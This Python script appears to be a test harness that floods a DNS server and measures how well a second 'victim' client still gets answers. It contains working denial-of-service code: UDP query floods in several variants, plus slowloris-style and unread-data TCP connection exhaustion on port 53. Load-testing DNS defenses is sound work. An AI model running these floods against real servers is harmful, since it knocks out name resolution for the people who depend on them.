"""A container that attacks the DNS, or one that has to live beside it. Standard library only.

HOW SERVER            attack until killed; prints "ready" first
victim SERVER COUNT   ask one question after another; prints {"lost": ..., "p50": ..., "p99": ...}
"""

import contextlib
import json
import os
import random
import socket
import sys
import time
from collections.abc import Callable

HEAD = b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
TAIL = b"\x00\x01\x00\x01"


def question(name: bytes, number: int = 1) -> bytes:
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return number.to_bytes(2, "big") + HEAD + labels + b"\x00" + TAIL


def spelled(number: int) -> bytes:
    """`attacker` in one of 256 spellings."""
    letters = zip(range(8), b"attacker", strict=True)
    return question(bytes(letter ^ 32 if number >> bit & 1 else letter for bit, letter in letters))


MESSAGES: dict[str, Callable[[int], bytes]] = {
    "good": lambda n: question(b"attacker"),
    "junk": lambda n: os.urandom(40),
    "random": lambda n: question(b"n%d" % random.getrandbits(60)),
    "spelled": spelled,
    "elsewhere": lambda n: question(b"n%d.example.com" % random.getrandbits(60)),
}


def flood(how: str, server: str) -> None:
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.connect((server, 53))
    messages = [MESSAGES[how](number) for number in range(2000)]
    print("ready", flush=True)
    while True:
        for message in messages:
            with contextlib.suppress(OSError):
                sock.send(message)


def crowd(how: str, server: str) -> None:
    """As many TCP connections as it can have, each a nuisance of its own kind."""
    message = question(b"attacker")
    whole = len(message).to_bytes(2, "big") + message
    sockets: list[socket.socket] = []
    print("ready", flush=True)
    while True:
        if len(sockets) < 300:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            sock.connect_ex((server, 53))
            sockets.append(sock)
        for sock in list(sockets):
            try:
                if how == "slowloris":
                    sock.send(b"\x00")
                elif how == "unread":
                    sock.send(whole * 50)
            except BlockingIOError:
                continue
            except OSError:
                sockets.remove(sock)
                sock.close()
        time.sleep(0.001)


def victim(server: str, count: int) -> None:
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.connect((server, 53))
    sock.settimeout(1.0)
    lost = 0
    times = []
    for number in range(count):
        asked = question(b"victim", number)
        began = time.perf_counter()
        sock.send(asked)
        try:
            while sock.recv(2000)[:2] != asked[:2]:
                pass
            times.append(time.perf_counter() - began)
        except TimeoutError:
            lost += 1
        time.sleep(0.0005)
    times.sort()
    result = {"lost": lost, "p50": times[len(times) // 2], "p99": times[len(times) * 99 // 100]}
    print(json.dumps(result))


if __name__ == "__main__":
    if sys.argv[1] == "victim":
        victim(sys.argv[2], int(sys.argv[3]))
    elif sys.argv[1] in MESSAGES:
        flood(*sys.argv[1:])
    else:
        crowd(*sys.argv[1:])
